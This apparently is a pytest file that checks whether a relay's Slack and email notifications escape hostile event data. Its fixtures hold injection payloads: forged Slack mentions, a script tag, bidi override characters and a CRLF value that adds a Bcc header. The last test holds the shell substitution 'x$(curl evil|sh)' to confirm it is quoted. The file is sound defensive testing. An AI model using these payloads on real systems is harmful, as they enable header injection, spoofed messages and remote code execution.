"""Event data at its most hostile in every new kind of message (a session's outcome, a grouped
message, a digest), in Slack and in mail: no mention or link can be forged, no HTML injected, no
header added, no bidi override reorders what is shown."""

from email import message_from_bytes, policy

import pytest

from relay.domain.event import Event
from tests.workers.destinations.derived import group_event, line, session_event, wms_event
from tests.workers.destinations.test_properties import OUR_TAGS, assert_escaped, slack_texts
from workers.destinations.email import digest_email, email_message
from workers.destinations.slack import slack_message
from workers.destinations.slack_sessions import digest_message

SENDER = "relay@wms.example.com"
HOSTILE = "<!channel> <http://x|y> & <script>alert(1)</script> \u202epaid\u202c"
# Session ids are printable ASCII once parsed; built directly, they still must not add a header.
SESSION = "s\r\nBcc: victim@example.com <!channel>"
CODE = "<!here>&co"  # an unknown code is printable ASCII, '<' and '&' included


def hostile_session() -> Event:
    timeline = [
        line(0, CODE, "INFO", 0, {HOSTILE: HOSTILE}),
        line(1, "CONSTRAINT_VIOLATION", "ERROR", 5, {"constraint": HOSTILE}),
    ]
    return session_event(
        session=SESSION,
        timeline=timeline,
        reason=CODE,
        reasonSequence=1,
        reasonPayload={"<b>k</b>": HOSTILE},
        measurementId=HOSTILE,
        measurementIds=[HOSTILE, "<!everyone>"],
        lastSnr=HOSTILE,
        gaps=[],
    )


def hostile_group() -> Event:
    events = [line(3, CODE, "WARN", 3, {HOSTILE: HOSTILE, "measurementId": HOSTILE})]
    return group_event(events, session=SESSION, rule=HOSTILE, measurementId="<!here>")


def hostile_abandoned() -> Event:
    return session_event("SESSION_ABANDONED", session=SESSION, reason="idle", reasonSequence=None, reasonPayload={})


KINDS = {
    "session": lambda: [hostile_session()],
    "abandoned": lambda: [hostile_abandoned()],
    "group": lambda: [hostile_group()],
    "digest": lambda: [
        hostile_session(),
        hostile_group(),
        hostile_abandoned(),
        wms_event(CODE, "WARN", session=SESSION, x=HOSTILE),
    ],
}


def slack_for(kind: str, events: list[Event]) -> dict:
    return digest_message(events) if kind == "digest" else slack_message(events[0])


def mail_for(kind: str, events: list[Event]):
    if kind == "digest":
        return digest_email(events, SENDER, ["ops@example.com"], [], "ops-email")
    return email_message(events[0], SENDER, ["ops@example.com"], [], "ops-email")


@pytest.mark.parametrize("kind", KINDS)
def test_slack_shows_hostile_values_escaped(kind):
    texts = [text for _, text in slack_texts(slack_for(kind, KINDS[kind]()))]
    for text in texts:
        assert_escaped(text)
        assert "\u202e" not in text and "\r" not in text, text
    shown = "\n".join(texts)
    assert "&lt;!channel&gt;" in shown
    assert "&lt;!here&gt;&amp;co" in shown or kind == "abandoned"  # its timeline holds no hostile code


@pytest.mark.parametrize("kind", KINDS)
def test_mail_shows_hostile_values_escaped_and_keeps_its_own_headers(kind):
    raw = mail_for(kind, KINDS[kind]()).as_bytes(policy=policy.SMTP)
    mail = message_from_bytes(raw, policy=policy.default)
    assert mail["Bcc"] is None and "\n" not in mail["Subject"]
    assert [name for name, _ in mail.items()][:8] == [
        "Subject",
        "From",
        "To",
        "Date",
        "Message-ID",
        "In-Reply-To",
        "References",
        "MIME-Version",
    ]
    html = mail.get_body(("html",)).get_content()
    leftover = OUR_TAGS.sub("", html)
    assert "<" not in leftover and ">" not in leftover, leftover
    assert "&lt;!here&gt;&amp;co" in html or kind == "abandoned"
    text = mail.get_body(("plain",)).get_content()
    for part in (html, text, mail["Subject"]):
        assert "\u202e" not in part
    assert "\r" not in text.replace("\r\n", "\n")


def test_the_subject_of_a_session_mail_is_one_line():
    mail = mail_for("session", [hostile_session()])
    assert mail["Subject"] == (
        "[WMS ERROR] Measurement failed: <!here>&co (<!channel> <http://x|y> & <script>alert(1)</script> \ufffdpaid\ufffd)"
        " - session s\ufffd Bcc: victim@example.com <!channel>"
    )


def test_the_show_command_in_a_message_is_safe_to_paste_into_a_shell():
    from workers.destinations.session_view import show_command

    assert show_command("s-1") == "relay sessions show s-1"
    assert show_command("x$(curl evil|sh)`id`") == "relay sessions show 'x$(curl evil|sh)`id`'"
